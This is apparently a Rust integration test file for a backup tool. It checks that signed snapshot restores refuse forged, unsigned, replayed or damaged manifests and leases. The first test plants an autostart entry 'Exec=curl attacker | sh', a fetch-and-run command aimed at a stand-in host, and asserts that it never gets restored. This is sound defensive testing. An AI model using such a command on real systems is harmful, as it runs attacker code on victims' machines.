//! Signed snapshots, against someone who can write to the bucket but holds no key: they can
//! put any object there (made with the real binary and the public recipient, or copied from
//! the repository itself), damage or delete objects, and put an old lease back. None of it
//! may choose what a restore installs; at worst a restore refuses and says why.

use std::path::{Path, PathBuf};
use std::time::Duration;

use chrono::Utc;
use ghostwire_backup::layout::Object;
use ghostwire_backup::lease::Held;
use ghostwire_backup::repo::{Keys, Repository};
use ghostwire_backup::signing::Signer;
use ghostwire_backup::store::s3::S3Options;

use crate::common::*;

/// Exit code of a restore or verify that refused something untrustworthy.
const UNTRUSTED: i32 = 9;

fn backed_up() -> (Fixture, String) {
    Fixture::backed_up(&["--messages", "20", "--attachments", "2"])
}

/// A snapshot id dated `at`, like the agent's.
fn id_at(at: chrono::DateTime<Utc>, tail: &str) -> String {
    format!("{}-{tail}", at.format("%Y%m%dT%H%M%S%.3fZ"))
}

/// Copies snapshot `from`'s manifest and signature, unchanged, to the names of `to`.
fn copy_manifest(fx: &Fixture, from: &str, to: &str) {
    for kind in [Object::Manifest, Object::Signature] {
        std::fs::copy(
            fx.repo.join(kind(from.to_string()).key()),
            fx.repo.join(kind(to.to_string()).key()),
        )
        .unwrap();
    }
}

/// Another backup of the fixture's home after a change: a newer genuine snapshot.
fn backup_after_a_change(fx: &Fixture) -> String {
    std::fs::write(fx.home().join("notes.txt"), Utc::now().to_rfc3339()).unwrap();
    fx.backup().ok()
}

/// Restores `snapshot` into a new directory and checks it restored `expected`.
fn assert_restores(fx: &Fixture, snapshot: &str, expected: &str) -> PathBuf {
    let target = tempfile::tempdir_in(&fx.root).unwrap().keep();
    let restored = fx.restore(&target).args(["--snapshot", snapshot]).ok();
    assert_eq!(restored, expected);
    target
}

#[test]
fn a_snapshot_made_with_the_public_recipient_and_another_signing_key_is_never_chosen() {
    let (fx, genuine) = backed_up();
    // The attacker's own home, with their own Signal profile and a startup script, backed
    // up with the real binary to the victim's recipient: everything but the signing key.
    let attacker = Fixture::new(&["--messages", "3"]);
    let autostart = attacker.home().join(".config/autostart");
    std::fs::create_dir_all(&autostart).unwrap();
    std::fs::write(
        autostart.join("planted.desktop"),
        "Exec=curl attacker | sh\n",
    )
    .unwrap();
    // Backed up to their own repository (the agent refuses to sign into one whose
    // repository.json another key signed), then every object copied into the victim's.
    let (attacker_key, _) = signing_keygen(&attacker.root);
    let forged = attacker
        .backup()
        .env("GWB_SIGNING_KEY_FILE", &attacker_key)
        .ok();
    assert!(forged > genuine);
    for part in attacker.archive_files(&forged) {
        let name = part.strip_prefix(&attacker.repo).unwrap();
        std::fs::copy(&part, fx.repo.join(name)).unwrap();
    }
    for key in [
        Object::Index(forged.to_string()).key(),
        Object::Signature(forged.to_string()).key(),
        Object::Manifest(forged.to_string()).key(),
    ] {
        std::fs::copy(attacker.repo.join(&key), fx.repo.join(&key)).unwrap();
    }

    let target = fx.root.join("target");
    let err = fx.restore(&target).fails_with_code(UNTRUSTED, &[&forged]);
    assert!(err.contains("another key"), "{err}");
    assert!(!target.exists());
    let mut by_id = fx.restore(&target);
    by_id.args(["--snapshot", &forged]);
    fx.assert_restore_fails(&mut by_id, &target);
    fx.verify_with(fx.agent(), &forged)
        .fails_with_code(UNTRUSTED, &["not trustworthy"]);
    assert_eq!(snapshot_ids(&mut fx.agent()), [genuine.as_str()]);

    // The genuine snapshot is still there for whoever names it.
    let restored = assert_restores(&fx, &genuine, &genuine);
    assert!(!restored.join(".config/autostart/planted.desktop").exists());
    assert!(restored.join(".config/Signal/sql/db.sqlite").exists());
}

#[test]
fn a_manifest_without_a_signature_is_refused_and_allow_unsigned_is_explicit() {
    let (fx, genuine) = backed_up();
    std::fs::remove_file(fx.repo.join(Object::Signature(genuine.to_string()).key())).unwrap();
    let target = fx.root.join("target");
    fx.restore(&target)
        .fails_with_code(UNTRUSTED, &["has no signature"]);
    // A repository from before signing: its snapshots restore when asked for explicitly.
    let restored = fx
        .restore(&target)
        .args(["--snapshot", &genuine, "--allow-unsigned"])
        .ok();
    assert_eq!(restored, genuine);
}

#[test]
fn a_genuine_manifest_copied_under_a_newer_or_a_future_id_is_refused() {
    let (fx, genuine) = backed_up();
    let future = "20991231T235959.999Z-0000f00d";
    copy_manifest(&fx, &genuine, future);
    // The future copy is no snapshot at all: latest is still the genuine one, and `check`
    // still sees its real age.
    assert_restores(&fx, "latest", &genuine);
    assert_eq!(snapshot_ids(&mut fx.agent()), [genuine.as_str()]);
    wait_until_older_than(&fx.manifest(&genuine), Duration::from_secs(2));
    fx.agent()
        .args(["check", "--max-age", "2s"])
        .fails_with_code(5, &[]);

    // A copy under a newer id in the past (a replay of an old state as the newest): never
    // chosen, and latest does not fall back past it silently either.
    let replayed = id_at(Utc::now(), "0000beef");
    copy_manifest(&fx, &genuine, &replayed);
    let target = fx.root.join("target");
    let err = fx.restore(&target).fails_with_code(UNTRUSTED, &[&replayed]);
    assert!(err.contains("not for this object"), "{err}");
    fx.restore(&target)
        .args(["--snapshot", &replayed])
        .fails_with_code(UNTRUSTED, &["not trustworthy"]);
    // The way out the error names: forget the junk object.
    fx.agent().args(["forget", &replayed]).ok();
    assert_restores(&fx, "latest", &genuine);
}

#[test]
fn a_damaged_newest_manifest_stops_latest_instead_of_rolling_back() {
    let (fx, older) = backed_up();
    let newest = backup_after_a_change(&fx);
    let manifest = fx.manifest_path(&newest);
    let text = std::fs::read(&manifest).unwrap();
    std::fs::write(&manifest, &text[..text.len() / 2]).unwrap();

    let target = fx.root.join("target");
    let err = fx.restore(&target).fails_with_code(UNTRUSTED, &[&newest]);
    assert!(err.contains(&older) && err.contains("--snapshot"), "{err}");
    assert!(!target.exists());
    // Prune keeps what it cannot verify: the newest archive survives for a person to
    // look at, and the older snapshot stays restorable.
    fx.agent().args(["prune", "--keep-last", "1"]).ok();
    assert!(!fx.archive_files(&newest).is_empty());
    assert_restores(&fx, &older, &older);
}

#[test]
fn prune_deletes_by_verified_id_never_what_a_manifest_names() {
    let (fx, genuine) = backed_up();
    // An old-dated manifest, signed by someone else, naming the genuine snapshot's objects.
    let junk = "20200101T000000.000Z-00000bad";
    let mut manifest = fx.manifest(&genuine);
    manifest["id"] = junk.into();
    let path = fx.manifest_path(junk);
    std::fs::write(&path, manifest.to_string()).unwrap();
    let (attacker_key, _) = signing_keygen(&fx.root);
    let signature = Signer::load(&attacker_key).unwrap().sign(
        &Object::Manifest(junk.to_string()).key(),
        None,
        &std::fs::read(&path).unwrap(),
    );
    std::fs::write(format!("{}.minisig", path.display()), signature).unwrap();

    let pruned = fx.agent().args(["prune", "--keep-last", "1"]).ok();
    assert!(!pruned.contains(junk), "{pruned}");
    assert!(!fx.archive_files(&genuine).is_empty());
    assert!(fx.manifest_path(&genuine).exists());
    assert_restores(&fx, "latest", &genuine);
}

#[test]
fn a_junk_manifest_of_a_newer_format_stops_nothing() {
    let (fx, genuine) = backed_up();
    let junk = fx.manifest_path("20200101T000000.000Z-00000002");
    std::fs::write(&junk, r#"{"format": 2, "id": "x"}"#).unwrap();
    let listed = fx.agent().arg("snapshots").ok();
    assert!(
        listed.contains("20200101T000000.000Z-00000002") && listed.contains("NOT TRUSTWORTHY"),
        "{listed}"
    );
    fx.agent().args(["check", "--max-age", "1h"]).ok();
    fx.agent().args(["prune", "--keep-last", "5"]).ok();
    assert_restores(&fx, "latest", &genuine);
    fx.verify_with(fx.agent(), "latest").ok();
}

/// A lease released with `final_snapshot`, written as the sidecar does: signed with
/// `signer`, or unsigned without one.
pub fn release_lease(repo: &Path, signer: Option<&Path>, final_snapshot: &str) {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    runtime.block_on(async {
        let keys = Keys {
            signer: signer.map(|path| std::sync::Arc::new(Signer::load(path).unwrap())),
            ..Keys::default()
        };
        let repo = Repository::open(repo.to_str().unwrap(), &S3Options::default())
            .await
            .unwrap()
            .with_keys(keys);
        let held = Held::acquire(&repo, "ghostwire-0", Duration::from_secs(600))
            .await
            .unwrap();
        held.release(&repo, Some(final_snapshot)).await.unwrap();
    });
}

#[test]
fn a_forged_or_replayed_handoff_is_refused() {
    let (fx, older) = backed_up();
    let target = fx.root.join("target");
    let mut handoff = fx.restore(&target);
    handoff.args(["--snapshot", "handoff"]);
    let lease = fx.repo.join(Object::Lease.key());

    // Unsigned, or signed by another key: a handoff is refused.
    release_lease(&fx.repo, None, &older);
    handoff.fails_with_code(UNTRUSTED, &["has no signature"]);
    let (attacker_key, _) = signing_keygen(&fx.root);
    release_lease(&fx.repo, Some(&attacker_key), &older);
    handoff.fails_with_code(UNTRUSTED, &["another key"]);

    // A genuine handoff, as blue's sidecar leaves it; a backup by hand after it (a
    // CronJob's) does not change what green restores.
    release_lease(&fx.repo, Some(&signing_keys().signing_key), &older);
    let captured = std::fs::read(&lease).unwrap();
    backup_after_a_change(&fx);
    assert_eq!(handoff.ok(), older);

    // Later a sidecar holds the lease and takes snapshots, then stops with a final one:
    // the lease now hands that one over. Putting the captured older lease back is
    // refused: a newer snapshot was taken under the lease since.
    std::fs::remove_dir_all(&target).unwrap();
    let sidecar = fx
        .agent()
        .args(["run", "--schedule", "@yearly", "--listen", "127.0.0.1:0"])
        .args([
            "--source",
            fx.home().to_str().unwrap(),
            "--recipient",
            &fx.recipient,
        ])
        .args(["--staging-dir", fx.root.join("staging").to_str().unwrap()])
        .env("GWB_LEASE_OWNER", "ghostwire-1")
        .spawn(std::process::Stdio::null(), std::process::Stdio::null());
    wait_until_final_snapshot_released(&fx, sidecar);
    let handed_over = handoff.ok();
    assert_ne!(handed_over, older);
    std::fs::remove_dir_all(&target).unwrap();
    std::fs::write(&lease, &captured).unwrap();
    let err = handoff.fails_with_code(UNTRUSTED, &[&handed_over]);
    assert!(
        err.contains("put back") && err.contains("ghostwire-1"),
        "{err}"
    );
    assert!(!target.exists());
}

/// Waits for the sidecar to hold the lease, stops it with SIGTERM, and waits for it to
/// release the lease with its final snapshot.
fn wait_until_final_snapshot_released(fx: &Fixture, mut sidecar: Spawned) {
    let lease = || -> serde_json::Value {
        std::fs::read(fx.repo.join(Object::Lease.key()))
            .ok()
            .and_then(|bytes| serde_json::from_slice(&bytes).ok())
            .unwrap_or_default()
    };
    wait_for(
        "the sidecar to take the lease",
        Duration::from_secs(60),
        || {
            let lease = lease();
            (lease["owner"] == "ghostwire-1" && lease["released_at"].is_null()).then_some(())
        },
    );
    // SAFETY: a signal to our own child process.
    unsafe { libc::kill(sidecar.id() as i32, libc::SIGTERM) };
    assert!(sidecar.wait().unwrap().success());
    assert!(lease()["final_snapshot"].is_string(), "{}", lease());
}

#[test]
fn stock_minisign_checks_a_manifest_as_docs_format_md_says() {
    let minisign = require(Part::Minisign);
    let (fx, id) = backed_up();
    let verify = |manifest: &Path| {
        let mut command = TestCommand::new(&minisign);
        command
            .arg("-V")
            .arg("-m")
            .arg(manifest)
            .arg("-P")
            .arg(&signing_keys().verify_key);
        command
    };
    let checked = verify(&fx.manifest_path(&id)).ok();
    assert!(
        checked.contains(&format!("ghostwire-backup snapshots/{id}.json")),
        "{checked}"
    );
    let mut manifest = fx.manifest(&id);
    manifest["final"] = true.into();
    std::fs::write(fx.manifest_path(&id), manifest.to_string()).unwrap();
    verify(&fx.manifest_path(&id)).fails();
}

#[test]
fn each_side_is_told_which_key_it_lacks() {
    let fx = Fixture::new(&["--messages", "3"]);
    let err = fx
        .backup()
        .env_remove("GWB_SIGNING_KEY_FILE")
        .fails_with_code(2, &["no signing key", "keygen --signing-out"]);
    assert!(
        !fx.repo.join(Object::prefix_of(Object::Manifest)).exists(),
        "{err}"
    );
    fx.backup().ok();
    let target = fx.root.join("target");
    fx.restore(&target)
        .env_remove("GWB_VERIFY_KEY")
        .fails_with_code(2, &["no verify key", "GWB_VERIFY_KEY"]);
    fx.restore(&target)
        .env("GWB_VERIFY_KEY", "RWQnot-a-key")
        .fails_with(&["not a minisign public key"]);
    assert!(!target.exists());
}
